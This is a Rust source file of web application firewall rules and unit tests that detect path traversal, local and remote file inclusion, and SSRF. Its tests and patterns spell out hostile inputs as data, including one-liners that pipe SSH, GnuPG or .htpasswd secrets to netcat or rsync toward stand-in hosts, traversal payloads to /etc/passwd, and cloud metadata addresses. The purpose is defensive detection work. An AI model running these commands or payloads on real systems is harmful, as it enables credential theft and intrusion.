//! Path traversal / LFI (930xxx) and RFI / SSRF URL (931xxx) rules.
use super::pipelines::*;
use super::targets::*;
use super::{Category::Lfi, Category::Rfi, Check::*, RuleDef, Severity::*, rule};

/// Files a probe reads by name wherever they sit (930120).
macro_rules! sensitive_names {
    () => {
        r##"\.ssh/(?:id_[a-z0-9]+|authorized_keys|known_hosts)|\.bash_history|\.htpasswd|\.htaccess|\.git/(?:config|head|index)|\.svn/(?:entries|wc\.db)|\.env(?:$|[.\s'"])|web-inf/(?:web\.xml|classes|lib)|meta-inf/manifest|boot\.ini|win\.ini|system\.ini|(?:windows|winnt)/(?:system32|win\.ini|repair|debug|panther)|inetpub/|system32/(?:drivers|config|cmd\.exe)|wp-config\.php|localsettings\.php|\.aws/credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pgpass|\.my\.cnf"##
    };
}

/// The secrets under a home directory that a probe reads (`~/.ssh`, `~/.aws`).
macro_rules! home_secrets {
    () => {
        r##"(?:ssh|aws|gnupg|kube|docker|azure|config/gcloud)"##
    };
}

pub(super) fn rules() -> Vec<RuleDef> {
    let t = ATTACK | PATH;
    vec![
        rule(
            930100,
            Lfi,
            1,
            Critical,
            t,
            RAW,
            Regex(
                r##"(?:%(?:2e|c0%ae|e0%80%ae|u002e|uff0e|252e|25c0%25ae)|\.){2}(?:%(?:2f|5c|c0%af|c0%2f|c0%5c|c1%9c|c1%1c|e0%80%af|u002f|u005c|u2215|u2216|uefc8|uf025|252f|255c|25c0%25af))|%(?:2e|c0%ae|u002e|252e){2}(?:/|\\)|(?:^|[\\/=]|0x(?:2f|5c))(?:\.|0x2e){2}0x(?:2f|5c)|(?:^|[\\/=])0x2e0x2e[\\/]"##,
            ),
            "Encoded path traversal",
        ),
        rule(
            930110,
            Lfi,
            1,
            Critical,
            t,
            URL,
            Regex(
                r##"^\s*[\\/]+\.\.[\\/]|(?:(?:\\?\.){2,}[\\/]+(?:\.[\\/]+)*[^\\/]*){3}|\.\.;[\w=.,;-]{0,40}[\\/]|(?:^|[\\/=:'"\s])(?:\\?\.){2,}[\\/]+(?:\\?\.[\\/]+)*(?:etc|proc|windows|winnt|boot|usr|var|root|home|inetpub|web-inf|meta-inf)\b|\.{3,}[\\/]{2,}|(?:^|[\\/=:'"\s])\.\.[\\/]+(?:[\w.-]+[\\/]+)*[\w.-]*\.(?:pem|key|properties|env|htpasswd|htaccess|p12|pfx|jks|keystore|kdbx|sqlite3?|bak|swp)\b"##,
            ),
            "Path traversal",
        ),
        rule(
            930111,
            Lfi,
            1,
            Warning,
            t,
            URL,
            // Not after a space: `see ../README.md` in prose and markdown is a link.
            Regex(r##"(?:^|[\\/=:'"])\.\.[\\/]"##),
            "Parent directory reference",
        ),
        rule(
            930121,
            Lfi,
            1,
            Critical,
            t,
            NORM_PATH,
            // The whole value is one absolute path into system directories or to a
            // configuration, log or credential file: what a file parameter is probed
            // with (`/etc/apt/sources.list`, `c:\apache\logs\access.log`).
            Regex(
                r##"^\s*(?:[a-z]:)?[\\/][^\s]*?(?:\.(?:conf|cnf|ini|htaccess|htpasswd|passwd|asa|pdb)|[\\/](?:access|error)[_.]log|[\\/]\.(?:bashrc|bash_history|bash_profile|profile|netrc|rhosts|shosts|cshrc|forward|ssh[\\/][^\s]*)|[\\/](?:passwd|shadow|master\.passwd|web\.config|boot\.ini|win\.ini))\s*$|^\s*[\\/]\.(?:bashrc|bash_history|bash_profile|profile|netrc|rhosts|shosts|cshrc|forward|htpasswd|htaccess)\s*$"##,
            ),
            "Value is a path to a system, configuration or log file",
        ),
        rule(
            930122,
            Lfi,
            1,
            Critical,
            t,
            NORM_PATH,
            Detector(system_path, b"/\\"),
            "Value is a path into a system directory",
        ),
        rule(
            930123,
            Lfi,
            1,
            Critical,
            t,
            URL,
            // The whole value climbs out of its directory to a file that holds code,
            // configuration, credentials or logs (`../config.inc.php`,
            // `../apache/logs/error.log`), or names a system file without its root
            // (`etc/passwd`). Prose links (`see ../README.md`) are not whole values.
            Regex(
                r##"^\s*(?:\.{1,2}[\\/]+)*\.\.[\\/]+[^\s]*(?:\.(?:log|conf|cnf|ini|php\d?|phtml|inc|db|sqlite|passwd|htaccess|htpasswd|config|sql|bak|sh|env|pem|key)|[\\/]\.\w+)\s*$|^\s*(?:[.\\/]*[\\/])?etc[\\/]+(?:passwd|shadow|group|hosts|issue)\s*$"##,
            ),
            "Value climbs to a configuration, code or log file",
        ),
        rule(
            930124,
            Lfi,
            1,
            Critical,
            t,
            NORM_PATH,
            // The whole value is a path to code or configuration under a web root
            // (`/var/www/html/index.php`) or to a log the system or a stock daemon
            // writes (`/var/log/sshd.log`), which a file parameter is probed with; a
            // document root (`/var/www/html`) or an application's own log
            // (`/var/log/app/app.log`) is a setting.
            Regex(
                r##"^\s*/(?:var/www|srv/www|srv/http|usr/share/nginx/html)/[^\s]*\.(?:php\d?|phtml|inc|asp|aspx|jsp|cgi|pl|py|env|sql|bak|ini|conf|config|htaccess|htpasswd|log)\s*$|^\s*/var/log/(?:[^\s]*/)?(?:syslog|messages|secure|wtmp|btmp|lastlog|faillog|dmesg|maillog|cron|daemon|kern|auth|sshd|boot|audit/audit|dpkg|yum|mysqld?|mysql/error|postgresql/[^\s/]*|redis/[^\s/]*)(?:\.(?:log|\d+|gz))*\s*$"##,
            ),
            "Value is a path to web-root code or a system log",
        ),
        rule(
            930125,
            Lfi,
            1,
            Critical,
            t,
            URL,
            // The whole value names an editor or manual backup of a code or
            // configuration file (`index.php~`, `config.php.bak`, `.wp-config.php.swp`):
            // its source is served as text.
            Regex(
                r##"^\s*(?:[\w.~-]*[\\/])*\.?[\w.-]+\.(?:php\d?|phtml|inc|asp|aspx|jsp|jspx|cgi|pl|py|rb|config|conf|env|ini|htaccess|htpasswd)(?:~|\.(?:bak|old|orig|save|swp|swo|backup))\s*$"##,
            ),
            "Value is a backup of a code or configuration file",
        ),
        rule(
            930120,
            Lfi,
            1,
            Critical,
            t,
            NORM_PATH,
            Regex(concat!(
                r##"/(?:etc/(?:passwd|shadow|group|gshadow|hosts|issue|motd|crontab|sudoers|hostname|resolv\.conf|fstab|profile|environment|inittab|master\.passwd|security/|ssh/|mysql/my\.cnf|apache2?/|nginx/|httpd/|php\d?/|network/|knockd\.conf|redis\.conf)|proc/(?:self|\d+)/(?:environ|cmdline|fd|maps|status|exe|cwd|root|mounts|stat)|proc/(?:version|cpuinfo|meminfo|net/)|var/log/(?:apache|nginx|httpd|auth|syslog|messages|secure|mail)|var/lib/mysql|root/\.|home/[^/\s]+/\.(?:ssh|bash_history|aws|gnupg)|(?:var/)?run/secrets/|[^\s]*/serviceaccount/(?:token|ca\.crt|namespace)|(?:users|documents and settings)/(?:administrator|default|all users)/|[^\s]*/ntuser\.dat\b)"##,
                // A home directory's secrets (`~/.ssh`) at the start, after a
                // delimiter, as a command's last word, or as an argument of a command
                // after a shell separator; "add a line to ~/.gnupg/gpg.conf to ..."
                // and "generated once; they live in ~/.ssh" are prose.
                r##"|(?:^\s*|[=:'"(>`;|&@])~/\."##,
                home_secrets!(),
                r##"\b|\s~/\."##,
                home_secrets!(),
                r##"\b[\w./-]*(?:\s*(?:$|[;|&<>'"`)])|\s+[/~])|(?:[;|&`]|\$\()\s*(?:sudo\s+)?(?:[\w./-]*/)?(?:cat|tac|less|more|head|tail|cp|scp|rsync|mv|tar|zip|7z|gzip|base64|xxd|od|strings|gpg|curl|wget|nc|ncat|socat|openssl|find|ls|grep|awk|sed|chmod|rm)\b[^;|&`\n]*\s~/\."##,
                home_secrets!(),
                r##"\b"##,
                // IIS's configuration, not a script named after it (`web.config.ts`);
                // Windows drops trailing dots (`web.config.` opens it).
                r##"|(?:^|[\\/=:'"(>])(?:web|applicationhost)\.config\.*(?:$|[^\w.-])|\s(?:web|applicationhost)\.config\.*\s*(?:$|[;|&<>'"`)])"##,
                r##"|(?:^|[\\/=:'"(>])(?:"##,
                sensitive_names!(),
                // After a space only as a command's last word (`cat .env`,
                // `type win.ini;`): "a file called .env in the directory" is prose.
                r##")|\s(?:"##,
                sensitive_names!(),
                r##")\s*(?:$|[;|&<>'"`)])"##
            )),
            "Access to a sensitive OS or application file",
        ),
        rule(
            930140,
            Lfi,
            1,
            Critical,
            t,
            DEC,
            // `local_file://` is Python 2 urllib's name for it.
            Regex(r##"\b(?:local_file|file|netdoc):(?://|\\\\)"##),
            "file:// URL",
        ),
        rule(
            930150,
            Lfi,
            1,
            Critical,
            t,
            URL,
            Regex(r##"\.\w{1,6}\x00|\x00\.\w{1,6}\b"##),
            "NUL byte truncating a file name",
        ),
        rule(
            931100,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(
                r##"^\s*(?:https?|ftps?)://(?:[^/@\s]*@)?(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?/[^\s]*(?:\.(?:txt|php\d?|phtml|inc|sh|pl|py|cgi|asp|aspx|jsp|exe)\b|\?\s*$|\x00)"##,
            ),
            "RFI: script on an IP-literal host",
        ),
        rule(
            931101,
            Rfi,
            1,
            Warning,
            ATTACK,
            DEC,
            Regex(r##"^\s*(?:https?|ftps?)://(?:[^/@\s]*@)?(?:\d{1,3}\.){3}\d{1,3}\b"##),
            "URL with an IP-literal host",
        ),
        rule(
            931120,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(r##"^\s*(?:https?|ftps?)://\S+?(?:\?+|\x00|%00)\s*$"##),
            "RFI: URL ending in `?` or NUL (suffix cut-off)",
        ),
        rule(
            931130,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(
                r##"(?:https?|ftps?)://[^\s?#]*/[\w.-]*(?:shell|c99|r57|backdoor|evil|hack|pwn|exploit|payload|inject|b374k|wso|webshell|malware|rfi|cmd)[\w.-]*\.(?:txt|php\d?|phtml|inc|sh|pl|py|cgi|asp|aspx|jsp|gif|jpg)\b"##,
            ),
            "RFI: payload-named remote script",
        ),
        rule(
            931140,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(
                r##"^\s*\\\\(?:[\w-]+\.[\w.-]+|(?:\d{1,3}\.){3}\d{1,3})\\|\\\\(?:\d{1,3}\.){3}\d{1,3}\\"##,
            ),
            "RFI: UNC path",
        ),
        rule(
            931150,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            Regex(
                r##"\b(?:gopher|dict|tftp|netdoc)://|\bjar:(?:https?|file|ftp):|\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\bmetadata\.(?:packet\.net|tencentyun\.com)\b|\b100\.100\.100\.200\b|\[::ffff:a9fe:a9fe\]|\bfd00:ec2::254\b|\bhttps?://[^/\s@]*[\s&#][^/\s]*@"##,
            ),
            "SSRF scheme, cloud metadata address, or a URL whose host parsers disagree on (`http://a.example &@b.example/`)",
        ),
        rule(
            931180,
            Rfi,
            1,
            Critical,
            ATTACK,
            DEC,
            // A scheme inside a broken copy of itself, which it completes once
            // a filter takes it out: `hthttp://tp://evil.example/` is
            // `http://evil.example/` again. Nobody writes one but to get past
            // such a filter. Every split of each scheme, one line a scheme.
            Regex(concat!(
                "hhttp://ttp://|hthttp://tp://|htthttp://p://|httphttp://://|http:http:////|http:/http:///",
                "|hhttps://ttps://|hthttps://tps://|htthttps://ps://|httphttps://s://|httpshttps://://|https:https:////|https:/https:///",
                "|fftp://tp://|ftftp://p://|ftpftp://://|ftp:ftp:////|ftp:/ftp:///",
                "|fftps://tps://|ftftps://ps://|ftpftps://s://|ftpsftps://://|ftps:ftps:////|ftps:/ftps:///",
                "|ffile://ile://|fifile://le://|filfile://e://|filefile://://|file:file:////|file:/file:///",
                "|pphp://hp://|phphp://p://|phpphp://://|php:php:////|php:/php:///",
                "|pphar://har://|phphar://ar://|phaphar://r://|pharphar://://|phar:phar:////|phar:/phar:///",
                "|eexpect://xpect://|exexpect://pect://|expexpect://ect://|expeexpect://ct://|expecexpect://t://|expectexpect://://|expect:expect:////|expect:/expect:///",
                // Not `datadata::`, a path in Rust or C++ (`SomeDataData::new`).
                "|ddata:ata:|dadata:ta:|datdata:a:",
                "|ddata://ata://|dadata://ta://|datdata://a://|datadata://://|data:data:////|data:/data:///",
                "|zzip://ip://|zizip://p://|zipzip://://|zip:zip:////|zip:/zip:///",
                "|gglob://lob://|glglob://ob://|gloglob://b://|globglob://://|glob:glob:////|glob:/glob:///",
                "|ggopher://opher://|gogopher://pher://|gopgopher://her://|gophgopher://er://|gophegopher://r://|gophergopher://://|gopher:gopher:////|gopher:/gopher:///",
                "|ddict://ict://|didict://ct://|dicdict://t://|dictdict://://|dict:dict:////|dict:/dict:///",
            )),
            "RFI: a URL scheme written inside itself, to survive a filter that strips it once",
        ),
        // Values only, as CRS's 931130 reads ARGS: a Referer is a URL by
        // definition, and would add this score to every request a browser sends
        // from another origin.
        rule(
            931160,
            Rfi,
            2,
            Warning,
            VALUES,
            DEC,
            Regex(r##"^\s*(?:https?|ftps?|ldaps?)://"##),
            "Value is a URL",
        ),
    ]
}

/// The whole value is one absolute path into a system directory (`/etc/...`,
/// `/proc/...`, `/root/...`, `c:\\windows\\...`): what a file parameter is probed
/// with. A document, image or media file there (`/var/mail/report.xlsx`) is a
/// user's file, not a probe. Windows paths may hold spaces (`c:\\program files\\...`).
fn system_path(s: &str) -> bool {
    let v = s.trim();
    let windows = v.len() > 3 && v.as_bytes()[1] == b':' && v.as_bytes()[0].is_ascii_alphabetic();
    let path = if windows { &v[2..] } else { v };
    if !path.starts_with(['/', '\\']) || (!windows && path.contains(char::is_whitespace)) {
        return false;
    }
    let parts: Vec<&str> = path.split(['/', '\\']).filter(|p| !p.is_empty()).collect();
    let Some(first) = parts.first() else {
        return false;
    };
    const UNIX: &[&str] = &["etc", "proc", "boot", "root", "sys", "dev"];
    const WINDOWS: &[&str] = &["windows", "winnt", "system32", "inetpub", "boot.ini"];
    let system = UNIX.contains(first)
        || WINDOWS.contains(first)
        || (windows
            && parts
                .iter()
                .any(|p| matches!(*p, "logs" | "conf" | "config" | "inetsrv")))
        || matches!(
            (parts.first(), parts.get(1)),
            (Some(&"var"), Some(&("adm" | "mail" | "spool")))
                | (Some(&"usr"), Some(&"local"))
                | (Some(&"opt"), Some(_))
        ) && parts.iter().any(|p| {
            matches!(
                *p,
                "etc" | "logs" | "log" | "mail" | "spool" | "adm" | "lib"
            )
        });
    if !system || parts.len() < 2 && !WINDOWS.contains(first) {
        return false;
    }
    // What a probe reads there: a file without an extension (`passwd`,
    // `environ`, `id_rsa`, `crontabs/root`), a dotfile, a rotated log
    // (`messages.1`), or a configuration, log, script, key or database file.
    // Any other extension is a user's file kept there (`/var/mail/q3.xlsx`,
    // `/root/digest.bz`): naming every such type cannot be done, naming what
    // probes read can.
    let last = parts.last().copied().unwrap_or("");
    let ext = last.rsplit_once('.').map_or("", |(_, e)| e);
    const PROBED: &[&str] = &[
        "conf",
        "cnf",
        "cfg",
        "config",
        "ini",
        "inf",
        "xml",
        "json",
        "yml",
        "yaml",
        "toml",
        "properties",
        "list",
        "allow",
        "deny",
        "log",
        "env",
        "htpasswd",
        "htaccess",
        "passwd",
        "asa",
        "asp",
        "aspx",
        "php",
        "inc",
        "jsp",
        "sh",
        "bat",
        "ps1",
        "key",
        "pem",
        "crt",
        "db",
        "sqlite",
        "sql",
        "mdb",
        "bak",
        "old",
        "orig",
        "swp",
        "txt",
        "local",
        "defs",
        "rc",
        "d",
    ];
    ext.is_empty()
        || last.starts_with('.')
        || ext.bytes().all(|b| b.is_ascii_digit())
        || PROBED.iter().any(|p| p.eq_ignore_ascii_case(ext))
}

#[cfg(test)]
mod tests {
    use super::system_path;
    use crate::waf::rules::fires;

    #[test]
    fn a_scheme_nested_in_itself_fires_but_urls_side_by_side_do_not() {
        for a in [
            "hthttp://tp://www.google.com/humans.txt",
            "HTTPhttp://://evil.example/x.txt",
            "hthttps://tps://evil.example/",
            "phphp://p://filter/resource=index.php",
            "%64at%64ata:a:text/html,x",
            "dadata://ta://text/plain;base64,SSBsb3ZlIFBIUAo=",
            "zizip://p://shell.jpg%23payload.php",
            "?page=fifile://le:///etc/passwd",
        ] {
            assert!(fires(931180, a), "missed {a}");
        }
        for b in [
            "http://a.example/?next=http://b.example/",
            "see https://x.example and http://y.example",
            "https://web.archive.org/web/2020/https://example.com/",
            "data:text/plain,data: yes",
            "hthttp://",
            "SomeDataData::new()",
        ] {
            assert!(!fires(931180, b), "flagged {b}");
        }
    }

    #[test]
    fn metadata_hosts_and_urls_parsers_disagree_on_fire_but_plain_urls_do_not() {
        assert!(fires(931150, "https://metadata.packet.net/userdata"));
        assert!(fires(
            931150,
            "http://google.com:80 &@127.88.23.245:22/# @google.com:80/"
        ));
        assert!(fires(931150, "http://a.example#@b.example/"));
        assert!(!fires(931150, "http://a.example/#section see @alice"));
        assert!(!fires(931150, "https://user@example.com/path"));
        assert!(fires(930140, "local_file:///etc/passwd"));
        assert!(fires(930140, "file:\\\\\\c:\\"));
        assert!(!fires(930140, "the file:\\ prefix"));
    }

    #[test]
    fn secrets_outside_system_dirs_fire_but_user_files_do_not() {
        for a in [
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "../../run/secrets/kubernetes.io/serviceaccount/ca.crt",
            "~/.ssh/",
            "~/.aws/credentials",
            "C:\\Users\\Administrator\\Desktop\\",
            "c:\\users\\ann\\ntuser.dat",
            ".git/config",
            "WEB-INF/web.xml",
            "cat .env",
            ";cat .htpasswd|nc x 1",
            "type c:\\boot.ini",
            "x=../.env",
            "web.config",
            "./web.config",
            ";cat ~/.ssh/id_rsa",
            "cp ~/.aws/credentials /tmp/x",
            "x=~/.kube/config",
            "tar cz ~/.gnupg | nc evil 80",
            "applicationHost.config",
            ";type applicationHost.config",
            "file=web.config.",
            // After a shell separator, a home secret is a command's argument.
            ";rsync -a ~/.ssh a@192.0.2.1:",
            ";gpg --homedir ~/.gnupg --export-secret-keys -a x",
        ] {
            assert!(fires(930120, a), "missed {a}");
        }
        for b in [
            "c:\\users\\ann\\desktop\\photo.jpg",
            "C:\\Users\\Public\\Documents\\plan.docx",
            "the secrets of running",
            "~/projects/notes.md",
            "By default it looks for a file called .env in the current directory.",
            "Edit your .htaccess file and reload",
            "Use dotenvx to sync your .env files.",
            "Add the handler to your web.config file",
            "web.configuration",
            "src/web.config.ts",
            "Keys are generated once; they live in ~/.ssh by default.",
            "On macOS & Linux the config is at ~/.aws/config, on Windows elsewhere.",
            "add the following line to ~/.gnupg/dirmngr.conf to revert",
            "Try your luck with the SKS\n  pool: add a line to ~/.gnupg/dirmngr.conf to revert",
        ] {
            assert!(!fires(930120, b), "flagged {b}");
        }
    }

    #[test]
    fn web_root_code_and_log_paths_fire_but_settings_do_not() {
        assert!(fires(930124, "/var/www/html/index.php"));
        assert!(fires(930124, "/var/log/sshd.log"));
        assert!(fires(930124, "/var/log/auth.log.1"));
        assert!(fires(930124, "/var/log/syslog"));
        assert!(!fires(930124, "/var/www/html"));
        assert!(!fires(930124, "/var/log/myapp"));
        assert!(!fires(930124, "/var/log/app/app.log"));
        assert!(!fires(930124, "/var/www/html/img/logo.png"));
    }

    #[test]
    fn backups_of_code_fire_but_documents_do_not() {
        for a in [
            "index.php~",
            "config.php.bak",
            "/app/.wp-config.php.swp",
            "web.config.old",
        ] {
            assert!(fires(930125, a), "missed {a}");
        }
        for b in [
            "report.docx.bak",
            "index.php",
            "notes~",
            "photo.jpg.old",
            "see index.php~ in the tree",
        ] {
            assert!(!fires(930125, b), "flagged {b}");
        }
    }

    #[test]
    fn encoded_separators_in_unicode_and_overlong_forms_fire() {
        assert!(fires(930100, "..%u002f"));
        assert!(fires(930100, "..%c1%1c..%c1%1cetc/passwd"));
        // `0x2f` for `/`, from traversal fuzz lists.
        assert!(fires(930100, "..0x2f..0x2fetc/passwd"));
        assert!(fires(930100, "..0x5cboot.ini"));
        // Every character of the climb written that way.
        assert!(fires(930100, "0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd"));
        assert!(fires(930100, "0x2e0x2e0x5cboot.ini"));
        assert!(fires(930100, "0x2e0x2e/etc/passwd"));
        assert!(!fires(930100, "mask 0x2e0x2f is a pair of bytes"));
        assert!(!fires(930100, "0x2e 0x2e 0x2f"));
        assert!(!fires(930100, "for b in 0..0x2F { }"));
    }

    #[test]
    fn traversal_with_escaped_dots_fires_but_windows_current_dirs_do_not() {
        // `\.` is a dot to an application that strips backslashes (or a shell).
        for a in [
            ".\\/\\.\\.\\/\\.\\/etc/passwd",
            "\\.\\.\\/\\.\\.\\/\\.\\.\\/x",
            "\\.\\./etc/passwd",
            "..;a=1/..;a=1/..;a=1/..;a=1/",
            "/../conf/config.properties",
            "\\../ssl/yaws-key.pem",
            // Up from the root: only a path joined to another climbs from there.
            "/../xyzzy",
            "\\..\\xyzzy",
            "../.env",
            // Three climbs with `./` between them (dotdotpwn's patterns).
            "/./.././.././../{file}",
            "/.//..//.//..//.//..//{file}",
        ] {
            assert!(fires(930110, a), "missed {a:?}");
        }
        for b in [
            "../images/logo.png",
            "see ../docs/setup.md",
            "a..b.pem",
            "./../.././docs",
            "https://example.com/a/b/../c",
            "x /../y",
        ] {
            assert!(!fires(930110, b), "flagged {b:?}");
        }
        for b in [
            ".\\.\\config\\app.json",
            "C:\\app\\.\\etc",
            "see ./etc/hosts",
            "wait..; then a/b",
        ] {
            assert!(!fires(930110, b), "flagged {b:?}");
        }
    }

    #[test]
    fn climbs_to_code_and_rootless_system_files_fire_but_links_do_not() {
        for a in [
            "../config.inc.php",
            "../../apache/logs/error.log",
            "etc/passwd",
            // Dots and separators in front do not climb, but say where the file is.
            "./\\/././\\/./etc/passwd",
            ".\\/\\.\\/etc/shadow",
            ".//etc/passwd",
        ] {
            assert!(fires(930123, a), "missed {a:?}");
        }
        for b in [
            "see ../README.md",
            "../docs/guide.md",
            "etc/passwd is where accounts are listed",
            "my/etc/passwd",
            "x./etc/passwd",
        ] {
            assert!(!fires(930123, b), "flagged {b:?}");
        }
    }

    #[test]
    fn system_paths_are_probes_but_user_files_there_are_not() {
        for p in [
            "/etc/apt/sources.list",
            "/proc/self/environ",
            "/root/.ssh/id_rsa",
            "/var/spool/cron/crontabs/root",
            "c:\\program files\\apache group\\apache\\logs\\access.log",
            "c:\\windows\\system32\\inetsrv\\metabase.xml",
            "/usr/local/etc/php.ini",
            "/root/logs/app.log.1",
            "/etc/ssh/sshd_config",
            "/root/.bash_history",
            "/etc/hosts.allow",
            "/etc/mysql/my.CNF",
        ] {
            assert!(system_path(p), "missed {p}");
        }
        for b in [
            "/var/mail/drat.xlsx",
            "/boot/defaults/pace.ods",
            "/root/summary.bz",
            "/etc/mail/logo.svgz",
            "/proc/scans/page.tiff",
            "/api/v1/items",
            "/home/ann/notes.txt",
            "/etc",
            "c:\\users\\ann\\desktop\\photo.jpg",
        ] {
            assert!(!system_path(b), "flagged {b}");
        }
    }
}
